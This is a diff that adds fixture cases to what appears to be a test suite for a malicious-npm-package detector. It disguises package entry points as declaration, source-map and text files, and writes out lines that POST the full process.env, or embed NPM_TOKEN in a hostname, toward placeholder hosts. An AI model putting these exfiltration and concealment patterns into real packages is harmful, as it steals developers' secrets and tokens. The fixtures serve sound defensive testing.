@@ -38,4 +38,31 @@ CASES: tuple[Case, ...] = (
         "npm",
         {"package.json": package(main="lib/main"), "lib/main": _STEALS},
     ),
+    Case(
+        "an-entry-named-as-a-declaration", "npm", {"package.json": package(main="a.d.ts"), "a.d.ts": _STEALS}
+    ),
+    Case("an-entry-named-as-a-source-map", "npm", {"package.json": package(main="a.map"), "a.map": _STEALS}),
+    Case(
+        "the-entry-of-a-folder-named-as-text",
+        "npm",
+        {
+            "index.js": "module.exports = require('./lib')\n",
+            "lib/package.json": '{"main": "notes.txt"}',
+            "lib/notes.txt": _STEALS,
+        },
+    ),
+    Case(
+        "a-program-that-tells-the-whole-environment",
+        "npm",
+        {
+            "package.json": package(bin={"sample": "run.js"}),
+            "run.js": f"fetch('{HOST}/in', {{method: 'POST', body: JSON.stringify(process.env)}})\n",
+            "index.js": "module.exports = {}\n",
+        },
+    ),
+    Case(
+        "a-token-in-the-midst-of-a-host",
+        "npm",
+        {"index.js": "require('https').get(`https://a.${process.env.NPM_TOKEN}.pratique.invalid/`)\n"},
+    ),
 )
